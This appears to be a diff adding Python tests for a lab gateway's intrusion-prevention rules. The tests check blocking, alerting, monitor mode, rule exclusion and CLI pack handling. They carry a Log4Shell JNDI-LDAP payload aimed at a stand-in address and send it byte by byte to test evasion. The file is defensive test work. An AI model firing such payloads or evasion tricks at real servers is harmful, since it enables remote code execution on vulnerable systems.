@@ -1,0 +1,153 @@
+"""Attacks and ordinary traffic through a gateway with the starter set of IPS rules."""
+
+import json
+import re
+import socket
+import subprocess
+import time
+
+from harness import ROOT, SERVER, LabTest, policy, rule, services, unittest
+
+LOG4SHELL = "/?q=$%7Bjndi:ldap://198.51.100.66/a%7D"
+RAW_LOG4SHELL = b"GET /?q=${jndi:ldap://198.51.100.66/a} HTTP/1.1\r\nHost: server.lab.example\r\n\r\n"
+OWN_RULE = ('drop http any any -> any any (msg:"ours: not for guests"; flow:to_server; http.uri; '
+            'content:"/forbidden"; sid:1000001; rev:3;)')
+INSPECTED = rule("inspected", "allow", profile="office")
+
+
+def profile(**ips):
+    return [{"name": "office", "ips": ips}]
+
+
+def signature_ids(records):
+    return {record["alert"]["signature_id"] for record in records}
+
+
+class Ips(LabTest):
+    wanted_services = (services.web,)
+    lab_options = {"rule_packs": str(ROOT / "rules/ips/starter")}
+
+    def setUp(self):
+        self.apply_inspection()
+        self.seen = len(self.events("alert"))
+
+    def apply_inspection(self, *own_rules, **ips):
+        return self.apply(INSPECTED, profiles=profile(**ips), ips_rules=list(own_rules))
+
+    def alerts(self):
+        return self.events("alert")[self.seen:]
+
+    def cli(self, *arguments, check=True):
+        from sekisho_lab.gateway import binaries
+        command = self.gateway.inside([binaries() / "sekisho", "--run-dir", self.gateway.run_dir, *arguments])
+        return subprocess.run(list(map(str, command)), check=check, capture_output=True, text=True)
+
+    def attack(self, address=SERVER.ipv4):
+        host = f"[{address}]" if ":" in address else address
+        return self.page(f"http://{host}{LOG4SHELL}")
+
+    def test_an_attack_is_dropped_and_the_event_names_the_rule(self):
+        self.assertIsNotNone(self.page(f"http://{SERVER.ipv4}/"))
+        for address in (SERVER.ipv4, SERVER.ipv6):
+            with self.subTest(address=address):
+                self.seen = len(self.events("alert"))
+                self.assertIsNone(self.attack(address))
+                alert = self.eventually(self.alerts, "an alert")[0]
+                self.assertEqual(alert["alert"]["action"], "blocked")
+                self.assertIn("Log4Shell", alert["alert"]["signature"])
+                self.assertIn("jndi", alert["http"]["url"])
+                self.assertIn("CVE", json.dumps(alert["alert"]).upper())
+        self.assertIsNotNone(self.page(f"http://{SERVER.ipv4}/"))
+
+    def test_one_byte_a_segment_is_no_way_around(self):
+        outcome, connection = self.try_connect(SERVER.ipv4, 80)
+        self.assertEqual(outcome, "open")
+        self.addCleanup(connection.close)
+        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        for byte in RAW_LOG4SHELL:
+            connection.send(bytes([byte]))
+        connection.settimeout(2)
+        with self.assertRaises((TimeoutError, ConnectionResetError)):
+            self.fail(f"answered: {connection.recv(100)}")
+        self.assertTrue(self.eventually(self.alerts, "an alert"))
+
+    def test_a_profile_that_monitors_reports_and_lets_through(self):
+        self.apply_inspection(action="monitor")
+        self.assertIsNotNone(self.attack())
+        alert = self.eventually(self.alerts, "an alert")[0]
+        self.assertEqual(alert["alert"]["action"], "allowed")
+
+    def test_a_rule_can_be_excluded_or_only_watched(self):
+        self.assertIsNone(self.attack())
+        blamed = signature_ids(self.eventually(self.alerts, "an alert"))
+        self.apply_inspection(monitored_rules=sorted(map(str, blamed)))
+        self.assertIsNotNone(self.attack())
+        self.apply_inspection(excluded_rules=sorted(map(str, blamed)))
+        self.seen = len(self.events("alert"))
+        self.assertIsNotNone(self.attack())
+        self.apply_inspection(enabled=False)
+        self.assertIsNotNone(self.attack())
+        time.sleep(0.3)
+        self.assertEqual(self.alerts(), [])
+
+    def test_a_flow_whose_rule_has_no_profile_is_not_looked_at(self):
+        self.apply(rule("plain", "allow"), profiles=profile())
+        self.assertIsNotNone(self.attack())
+
+    def test_an_own_rule_acts_with_its_policy(self):
+        self.assertIsNotNone(self.page(f"http://{SERVER.ipv4}/forbidden"))
+        self.apply_inspection(OWN_RULE)
+        self.assertIsNone(self.page(f"http://{SERVER.ipv4}/forbidden"))
+        self.assertIsNotNone(self.page(f"http://{SERVER.ipv4}/"))
+        self.assertIn(1000001, signature_ids(self.eventually(self.alerts, "an alert")))
+        self.apply_inspection()
+        self.assertIsNotNone(self.page(f"http://{SERVER.ipv4}/forbidden"))
+
+    def test_a_wrong_rule_is_refused_with_its_line(self):
+        yaml = policy(INSPECTED, profiles=profile(), ips_rules=[OWN_RULE, 'drop http any any -> any any (contents:"x"; sid:2;)'])
+        answer = self.gateway.control("policy.apply", yaml=yaml, comment="wrong")
+        self.assertFalse(answer["ok"])
+        line = next(n for n, text in enumerate(yaml.splitlines(), 1) if "contents" in text)
+        self.assertEqual(answer["diagnostics"][0]["line"], line, answer)
+        self.assertIn("contents", answer["diagnostics"][0]["message"])
+        self.assertIsNone(self.attack())  # what was in force still is
+
+    def test_a_change_of_policy_keeps_what_was_read_of_a_stream(self):
+        outcome, connection = self.try_connect(SERVER.ipv4, 80)
+        self.assertEqual(outcome, "open")
+        self.addCleanup(connection.close)
+        half = RAW_LOG4SHELL.index(b"jndi") + 2
+        connection.send(RAW_LOG4SHELL[:half])
+        time.sleep(0.1)
+        self.apply_inspection(OWN_RULE)  # other rules, compiled anew
+        connection.send(RAW_LOG4SHELL[half:])
+        connection.settimeout(2)
+        with self.assertRaises((TimeoutError, ConnectionResetError)):
+            self.fail(f"answered: {connection.recv(100)}")
+
+    def test_ordinary_pages_pass(self):
+        for n in range(100):
+            self.assertIsNotNone(self.page(f"http://{SERVER.ipv4}/?page={n}&q=select+a+shirt"))
+        self.assertEqual(self.alerts(), [])
+
+    def test_the_command_line_knows_packs_and_costs(self):
+        self.attack()
+        listed = json.loads(self.cli("--json", "content", "list").stdout)["packs"]
+        self.assertIn("web-servers.rules", {pack["name"] for pack in listed if pack["shipped"]})
+        top = json.loads(self.cli("--json", "rules", "top").stdout)
+        self.assertGreater(top["rules_in_force"], 300)
+        self.assertTrue(any(entry["matches"] for entry in top["rules"]))
+        pack = self.lab.directory / "guests.rules"
+        pack.write_text(OWN_RULE + "\n")
+        self.addCleanup(self.cli, "content", "remove", "guests.rules", check=False)
+        self.cli("content", "import", pack)
+        self.assertIsNone(self.page(f"http://{SERVER.ipv4}/forbidden"))
+        self.cli("content", "remove", "guests.rules")
+        self.assertIsNotNone(self.page(f"http://{SERVER.ipv4}/forbidden"))
+        refused = self.cli("content", "remove", "guests.rules", check=False)
+        self.assertNotEqual(refused.returncode, 0)
+        self.assertRegex(refused.stderr, re.escape("guests.rules"))
+
+
+if __name__ == "__main__":
+    unittest.main()
